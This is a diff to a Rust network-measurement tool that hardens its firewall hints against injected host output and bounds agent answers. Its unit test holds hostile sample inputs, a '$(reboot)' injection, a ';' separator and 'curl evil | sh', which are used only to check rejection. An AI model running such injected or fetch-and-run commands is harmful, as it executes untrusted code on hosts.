@@ -1,9 +1,11 @@
 //! Two hosts that are ready to send to each other.
 
 use super::iperf;
-use crate::field::agent::{Answer, End, FlowLoad, Load, Order, Received, RefusalKind, Sent};
+use crate::field::agent::{self, Answer, End, FlowLoad, Load, Order, Received, RefusalKind, Sent};
+use crate::field::controls::Controls;
 use crate::field::remote::Remote;
-use crate::field::{FieldError, Lock, Shell, Ssh, Target, listing, namespaces, reach, token};
+use crate::field::{Bound, FieldError, Lock, Reason, Shell, Ssh, Target, is_plain, listing, namespaces, reach, token};
+use nix::errno::Errno;
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
 use std::thread;
 use std::time::Duration;
@@ -58,6 +60,9 @@ pub struct Pair {
 /// Time for an agent to follow an order, beyond that of a transfer.
 const ORDER_TIMEOUT: Duration = Duration::from_secs(30);
 
+/// An answer without samples: 4 kB.
+const BOUND_WITHOUT_SAMPLES: Bound = Bound { bytes: 4096, values: 64 };
+
 impl Pair {
     pub fn open(request: &Ends, tell: &(dyn Fn(&str) + Sync)) -> Result<Pair, FieldError> {
         tell(&format!("connecting to {}", request.host));
@@ -106,24 +111,21 @@ impl Pair {
         };
         let address = SocketAddr::new(any, self.listening.port());
         let order = Order::Listen { address, token: self.token.clone(), receive_buffer };
-        match self.agents()[1].order(&order, ORDER_TIMEOUT)? {
+        match self.agents()[1].order(&order, ORDER_TIMEOUT, BOUND_WITHOUT_SAMPLES)? {
             Answer::Listening { .. } => Ok(()),
-            Answer::Refused { kind: RefusalKind::Taken, said } => Err(self.failed(
-                1,
-                "listening",
-                format!(
-                    "TCP port {} is another program's ({said})\n\nhint: pass a free one: --port {}",
-                    address.port(),
-                    address.port() + 1
-                ),
-            )),
+            Answer::Refused { kind: RefusalKind::Taken, .. } => {
+                let port = address.port();
+                let next = if port < u16::MAX { port + 1 } else { port - 1 };
+                let why = format!("TCP port {port} is another program's\n\nhint: pass a free one: --port {next}");
+                Err(self.failed(1, "listening", Reason::Own(why)))
+            }
             other => Err(self.unexpected(1, "listening", other)),
         }
     }
 
     fn greet(&mut self) -> Result<(), FieldError> {
         let order = Order::Greet { address: self.listening, token: self.token.clone() };
-        match self.agents()[0].order(&order, ORDER_TIMEOUT)? {
+        match self.agents()[0].order(&order, ORDER_TIMEOUT, BOUND_WITHOUT_SAMPLES)? {
             Answer::Greeted { seen, .. } => self.seen = seen.ip(),
             Answer::Refused {
                 kind: kind @ (RefusalKind::Silent | RefusalKind::Closed | RefusalKind::Stranger),
@@ -131,29 +133,31 @@ impl Pair {
             } => {
                 let (from, to) = (self.shells[0].target().clone(), self.listening.to_string());
                 let port = self.listening.port();
-                let firewall = self.shells[1].run(&FIREWALL.replace("@PORT@", &port.to_string())).map(|ran| ran.stdout);
+                let firewall = to_open(&self.shells[1].run(FIREWALL).map(|ran| ran.stdout).unwrap_or_default(), port);
                 let hint = match kind {
                     RefusalKind::Silent if said.contains("route") || said.contains("unreachable") => format!(
                         "there is no route to {to}, or a firewall rejects TCP port {port}: look at `ip route get {to}`; or {}",
-                        firewall.unwrap_or_default().trim(),
+                        firewall,
                         to = self.listening.ip()
                     ),
-                    RefusalKind::Silent => format!(
-                        "TCP port {port} is filtered: {}; or pass a port that is open: --port N",
-                        firewall.unwrap_or_default().trim()
-                    ),
+                    RefusalKind::Silent => {
+                        format!("TCP port {port} is filtered: {firewall}; or pass a port that is open: --port N")
+                    }
                     RefusalKind::Stranger => {
                         "the address may lead to another machine, or through a proxy: pass --address with the host's own"
                             .into()
                     }
                     _ => format!(
-                        "the address may lead to another machine (NAT): pass --address with the host's own; or {}",
-                        firewall.unwrap_or_default().trim()
+                        "the address may lead to another machine (NAT): pass --address with the host's own; or {firewall}"
                     ),
                 };
                 let hint = match (&from, self.shells[1].target()) {
                     (Target::Local, host @ Target::Namespace(_)) => format!("{}; {hint}", from_within(host)),
                     _ => hint,
+                };
+                let said = match kind {
+                    RefusalKind::Stranger => Reason::Own("another program answers there".into()),
+                    _ => Reason::Host(said),
                 };
                 return Err(FieldError::NoPath { from, to, said, hint });
             }
@@ -170,27 +174,44 @@ impl Pair {
         }
         let (sent, received) = self.counted(forward, load)?;
         let document = serde_json::to_string_pretty(&listing::document(&sent, received.as_ref())).expect("plain data");
-        Ok((document + "\n", sent.screens))
+        Ok((document + "\n", sent.shown()))
     }
 
     /// Makes a transfer and returns the counts of both agents.
     fn counted(&mut self, forward: bool, load: &Load) -> Result<(Sent, Option<Received>), FieldError> {
-        let (address, token, load) = (self.listening, self.token.clone(), load.clone());
-        let patience = load.time + ORDER_TIMEOUT;
+        let (address, token) = (self.listening, self.token.clone());
         let order = match forward {
-            true => Order::Send { address, token, load },
-            false => Order::Receive { address, token, load },
+            true => Order::Send { address, token, load: load.clone() },
+            false => Order::Receive { address, token, load: load.clone() },
         };
-        let near = self.agents()[0].order(&order, patience)?;
-        let far = self.agents()[1].order(&Order::Report, ORDER_TIMEOUT)?;
-        match (near, far) {
-            (Answer::Sent(sent), Answer::Received(received)) | (Answer::Received(received), Answer::Sent(sent)) => {
-                Ok((*sent, Some(received)))
+        let bounds =
+            if forward { [load.bound(), BOUND_WITHOUT_SAMPLES] } else { [BOUND_WITHOUT_SAMPLES, load.bound()] };
+        let near = self.agents()[0].order(&order, load.time + ORDER_TIMEOUT, bounds[0])?;
+        let far = self.agents()[1].order(&Order::Report, ORDER_TIMEOUT, bounds[1])?;
+        let (sender, receiver) = if forward { (0, 1) } else { (1, 0) };
+        let [sent, received] = if forward { [near, far] } else { [far, near] };
+        let lied = |n: usize| move |why| (n, why);
+        let counted = match (sent, received) {
+            (Answer::Sent(sent), Answer::Received(received)) => sent
+                .checked(load)
+                .map_err(lied(sender))
+                .and_then(|sent| Ok((sent, Some(received.checked(load).map_err(lied(receiver))?)))),
+            (Answer::Sent(sent), _) => sent.checked(load).map_err(lied(sender)).map(|sent| (sent, None)),
+            (Answer::Refused { kind: kind @ (RefusalKind::Missing | RefusalKind::Forbidden), said }, _) => {
+                return Err(self.no_control(sender, kind, load, said));
             }
-            (Answer::Sent(sent), _) | (_, Answer::Sent(sent)) => Ok((*sent, None)),
-            (refused @ Answer::Refused { .. }, _) => Err(self.unexpected(0, "the transfer", refused)),
-            (_, other) => Err(self.unexpected(1, "the transfer", other)),
-        }
+            (refused @ Answer::Refused { .. }, _) => return Err(self.unexpected(sender, "the transfer", refused)),
+            (_, other) => return Err(self.unexpected(receiver, "the transfer", other)),
+        };
+        counted.map_err(|(n, why)| self.failed(n, "the transfer", why))
+    }
+
+    /// Explains why a host refused the congestion control that it was to use.
+    fn no_control(&self, n: usize, kind: RefusalKind, load: &Load, said: String) -> FieldError {
+        let error = if kind == RefusalKind::Missing { Errno::ENOENT } else { Errno::EPERM };
+        let own = load.congestion.as_ref().zip(Controls::query(&self.shells[n]).ok());
+        let why = own.map_or(Reason::Host(said), |(name, own)| Reason::Own(own.refused(name, error)));
+        self.failed(n, "the transfer", why)
     }
 
     /// Makes flows, and returns the reports of their ends: the connecting host's, then the listening one's.
@@ -203,26 +224,31 @@ impl Pair {
     ) -> Result<[Vec<End>; 2], FieldError> {
         self.listen(receive_buffer)?;
         let order = Order::Flows { address: self.listening, token: self.token.clone(), flows: flows.to_vec() };
-        let near = match self.agents()[0].order(&order, length + ORDER_TIMEOUT)? {
-            Answer::Ends(ends) => ends,
+        let bound = agent::bound_of_flows(flows);
+        let near = match self.agents()[0].order(&order, length + ORDER_TIMEOUT, bound)? {
+            Answer::Ends(ends) => self.ends(0, ends, flows)?,
             other => return Err(self.unexpected(0, "the flows", other)),
         };
         // A flow that was never connected has no other end.
         let count = near.iter().filter(|end| end.ends.is_some()).count();
-        match self.agents()[1].order(&Order::Ends { count, within: ORDER_TIMEOUT / 2 }, ORDER_TIMEOUT)? {
-            Answer::Ends(far) => Ok([near, far]),
+        match self.agents()[1].order(&Order::Ends { count, within: ORDER_TIMEOUT / 2 }, ORDER_TIMEOUT, bound)? {
+            Answer::Ends(far) => Ok([near, self.ends(1, far, flows)?]),
             other => Err(self.unexpected(1, "the flows", other)),
         }
     }
 
-    fn failed(&self, n: usize, doing: &str, said: String) -> FieldError {
+    fn ends(&self, n: usize, ends: Vec<End>, flows: &[FlowLoad]) -> Result<Vec<End>, FieldError> {
+        agent::checked_ends(ends, flows).map_err(|why| self.failed(n, "the flows", why))
+    }
+
+    fn failed(&self, n: usize, doing: &str, said: Reason) -> FieldError {
         FieldError::Refused { target: self.shells[n].target().clone(), doing: doing.into(), said }
     }
 
     fn unexpected(&self, n: usize, doing: &str, answer: Answer) -> FieldError {
         match answer {
-            Answer::Refused { said, .. } => self.failed(n, doing, said),
-            other => self.failed(n, doing, format!("{other:.200?}")),
+            Answer::Refused { said, .. } => self.failed(n, doing, Reason::Host(said)),
+            _ => self.failed(n, doing, Reason::Own("it answers something else".into())),
         }
     }
 }
@@ -237,17 +263,30 @@ fn from_within(host: &Target) -> String {
     )
 }
 
-/// Command that opens a port, for the active firewall.
-const FIREWALL: &str = r"
-if ufw status 2>/dev/null | grep -q 'Status: active'; then echo 'run there: sudo ufw allow @PORT@/tcp'
-elif firewall-cmd --state >/dev/null 2>&1; then echo 'run there: sudo firewall-cmd --add-port=@PORT@/tcp'
-elif [ $(uname -s) = FreeBSD ]; then echo 'let pf or ipfw pass TCP port @PORT@ there'
+/// Script that prints the active firewall in a word, and for nftables the chain of its input.
+const FIREWALL: &str = r#"
+if ufw status 2>/dev/null | grep -q 'Status: active'; then echo ufw
+elif firewall-cmd --state >/dev/null 2>&1; then echo firewalld
+elif [ $(uname -s) = FreeBSD ]; then echo freebsd
 elif nft list ruleset 2>/dev/null | grep -q 'hook input'; then
-	chain=$(nft list chains 2>/dev/null | awk '/^table/ {t=$2 FS $3} /chain/ {c=$2} /hook input/ {print t, c; exit}')
-	echo run there: sudo nft insert rule $chain tcp dport @PORT@ accept
-else echo 'run there: sudo iptables -I INPUT -p tcp --dport @PORT@ -j ACCEPT'
+	nft list chains 2>/dev/null | awk '/^table/ {t=$2 FS $3} /chain/ {c=$2} /hook input/ {print "nft", t, c; exit}'
+else echo iptables
 fi
-";
+"#;
+
+/// Says how to open a port with the host's firewall. The host's words are taken for names alone.
+fn to_open(firewall: &str, port: u16) -> String {
+    let words: Vec<&str> = firewall.split_whitespace().take(4).collect();
+    match words[..] {
+        ["ufw"] => format!("run there: sudo ufw allow {port}/tcp"),
+        ["firewalld"] => format!("run there: sudo firewall-cmd --add-port={port}/tcp"),
+        ["freebsd"] => format!("let pf or ipfw pass TCP port {port} there"),
+        ["nft", family, table, chain] if [family, table, chain].into_iter().all(is_plain) => {
+            format!("run there: sudo nft insert rule {family} {table} {chain} tcp dport {port} accept")
+        }
+        _ => format!("run there: sudo iptables -I INPUT -p tcp --dport {port} -j ACCEPT"),
+    }
+}
 
 /// Starts an agent on each host.
 fn started(shells: &[Shell; 2], locks: &[Lock]) -> Result<[Remote; 2], FieldError> {
@@ -263,4 +302,17 @@ pub fn both<T: Send>(shells: &[Shell; 2], of: impl Fn(usize, &Shell) -> T + Sync
         let second = of(1, &shells[1]);
         [resumed(first.join()), second]
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_firewalls_command_has_names_of_the_host_and_no_other_word() {
+        assert_eq!(to_open("nft inet f in\n", 5201), "run there: sudo nft insert rule inet f in tcp dport 5201 accept");
+        for lie in ["nft inet f $(reboot)", "run there: curl evil | sh", "nft a b c;d", ""] {
+            assert!(to_open(lie, 5201).ends_with("sudo iptables -I INPUT -p tcp --dport 5201 -j ACCEPT"), "{lie}");
+        }
+    }
 }
